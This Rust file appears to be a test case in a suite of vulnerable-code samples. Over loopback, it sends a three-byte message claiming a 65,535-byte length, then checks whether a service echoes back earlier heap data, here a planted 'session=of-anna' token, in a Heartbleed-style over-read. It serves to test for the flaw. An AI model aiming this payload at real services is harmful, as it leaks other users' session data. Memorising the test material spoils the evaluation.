//! Three bytes that are answered with what the heap held before (steps 1 to 4).
//!
//! samples: bad 1, good 1

use std::hint::black_box;
use std::io::Write;
use std::net::{Shutdown, TcpListener, TcpStream};

use attack::{attack, quoted, used};

/// What the service reads of these bytes.
fn message(sent: &[u8]) -> std::io::Result<Vec<u8>> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let mut client = TcpStream::connect(listener.local_addr()?)?;
    let (mut server, _) = listener.accept()?;
    client.write_all(sent)?;
    client.shutdown(Shutdown::Write)?;
    crate::message(&mut server)
}

pub fn run() {
    used(message(b"\x00\x05hello").ok());
    // Somebody else's request, which is over.
    drop(black_box(b"session=of-anna;".repeat(4096)[1..].to_vec()));
    let sent: Vec<u8> = quoted("ff ff 41").split(' ').map(|byte| u8::from_str_radix(byte, 16).expect("two digits")).collect();
    let echo = message(&sent).unwrap_or_default();
    let leaked = echo.windows(15).filter(|part| part == b"session=of-anna").count();
    attack(echo.len() == 65_535 && echo[0] == 0x41 && leaked > 0, (echo.len(), leaked));
}
